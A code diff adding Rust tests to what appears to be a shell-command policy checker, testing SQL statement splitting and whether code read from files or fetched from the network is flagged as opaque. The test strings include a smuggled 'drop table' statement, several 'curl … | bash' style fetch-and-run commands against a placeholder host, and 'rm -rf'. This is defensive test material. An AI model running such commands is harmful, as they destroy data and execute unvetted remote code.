@@ -51,6 +51,37 @@ fn a_module_or_a_script_that_is_described_is_a_program() {
 }
 
 #[test]
+fn sql_is_judged_statement_by_statement() {
+    let line = "psql -c \"SELECT ';'; drop table t\"";
+    let found: Vec<String> = judge(&Policy::shipped(), line, &Context::text_only())
+        .actions
+        .into_iter()
+        .flat_map(|action| action.payloads)
+        .map(|payload| payload.text)
+        .collect();
+    assert_eq!(found, ["SELECT ''", "drop table t"]);
+}
+
+#[test]
+fn a_file_that_is_read_as_code_is_a_script() {
+    for (line, opaque) in [
+        ("bash < build.sh", false),
+        ("psql shop < schema.sql", false),
+        ("curl -s https://x.example/a | bash", true),
+        ("bash < <(curl -s https://x.example/a)", true),
+        ("curl -s https://x.example/a > a.sh; bash < a.sh", true),
+        ("bash < /dev/stdin", true),
+    ] {
+        let found = actions(line);
+        assert_eq!(
+            found.iter().any(|a| a.contains("?code")),
+            opaque,
+            "{line}: {found:?}"
+        );
+    }
+}
+
+#[test]
 fn wrappers_are_looked_through_to_any_depth() {
     each_runs(
         "rm -rf /x",
